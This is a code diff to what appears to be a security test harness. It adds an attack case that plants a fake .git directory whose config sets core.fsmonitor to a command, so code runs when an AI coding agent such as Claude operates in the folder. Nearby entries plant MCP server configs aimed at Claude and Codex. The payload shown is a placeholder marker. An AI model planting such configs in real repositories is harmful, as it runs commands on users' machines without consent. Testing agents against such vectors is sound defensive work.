@@ -74,6 +74,15 @@ ATTACKS = {
             ".mcp.json": {"mcpServers": SERVER},
         },
     ),
+    "claude-git": Attack(
+        "claude",
+        {
+            ".git/HEAD": "ref: refs/heads/main\n",
+            ".git/config": f"[core]\nfsmonitor = {json.dumps(f'{TOUCH}; :')}\n",
+            ".git/objects/info/packs": "",
+            ".git/refs/heads/.none": "",
+        },
+    ),
     "codex-mcp": Attack("codex", {".codex/config.toml": CODEX_SERVER}),
     "codex-mcp-below": Attack(
         "codex", {"below/.codex/config.toml": CODEX_SERVER, ".git/HEAD": ""}, runs_in="below"
